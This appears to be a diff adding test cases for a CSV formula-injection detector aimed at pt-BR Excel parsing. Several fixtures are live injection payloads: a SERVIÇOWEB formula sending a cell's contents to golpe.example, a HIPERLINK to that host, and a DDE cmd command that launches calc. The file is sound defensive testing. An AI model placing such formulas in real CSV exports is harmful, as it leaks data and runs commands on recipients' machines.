@@ -53,6 +53,16 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ],
     ['a pt-BR XML filter in lower case', 'pedido;cliente\n1068;+filtroxml(A1;"//a")\n'],
     ['a DDE link in lower case after an at sign', "pedido;valor\n1065;@cmd|' /C calc'!A0\n"],
+    // Excel in pt-BR splits a CSV at ';' only: a comma in a formula's string is text, the call after it runs.
+    [
+      'a pt-BR remote call after a string with a comma',
+      'pedido;cliente\n1071;+"Ana, SP"&SERVIÇOWEB("http://golpe.example/?c="&B2)\n',
+    ],
+    [
+      'a link after a string with a comma and a space',
+      'pedido;link\n1072;-0&"pedido, frete"&HIPERLINK("http://golpe.example")\n',
+    ],
+    ['a DDE link after a string with a comma', 'pedido;valor\n1073;+"a,b"&cmd|\' /C calc\'!A0\n'],
   ])('%s', (_name, text) => {
     expect(csvHasFormula(text)).toBe(true);
   });
@@ -87,6 +97,12 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a list in capitals', 'pedido;itens\n1;- PRODUTO(S) SEM ESTOQUE\n2;+ BRINDE(S) NA CAIXA\n3;-CAMISETA(P) AZUL\n'],
     ['a quoted list with brackets and separators', 'pedido;nota\n88;"- produto(s) sem estoque; aguardando"\n'],
     ['a tab-separated list with brackets', 'pedido\tvalor\tobs\n1\t-19,90\t- produto(s) sem estoque\n'],
+    // A quote left open longer than a formula's string (255 characters) is no formula's: the comma separates.
+    ['an open quote in a signed text, a call in the next cell', `obs,nota\n-"${'a'.repeat(300)},HYPERLINK(x)\n`],
+    [
+      'a negative value, then a quoted note with a call written as text',
+      'valor,nota\n-15,"ver WEBSERVICE(x), depois"\n',
+    ],
     ['empty', ''],
   ])('%s: no formula', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
@@ -125,6 +141,8 @@ describe('csvHasFormula: bounded work on hostile shapes', () => {
     ['signed cells after empty quoted texts', `${';""-a'.repeat(1_000_000)}\n`],
     ['lists in capitals on one line', `${';- PRODUTO(S) SEM ESTOQUE'.repeat(300_000)}\n`],
     ['a bracket closed before a run of spaces', `-X(S)${' '.repeat(2_000_000)}x\n`],
+    ['signed cells with strings holding commas', `${',-"a,'.repeat(1_000_000)}`],
+    ['signed cells whose strings stay open', `${`,-"${'a,('.repeat(85)}`.repeat(40_000)}`],
   ])('%s: no formula, read in linear time', (_name, text) => {
     expect(csvHasFormula(text)).toBe(false);
   });
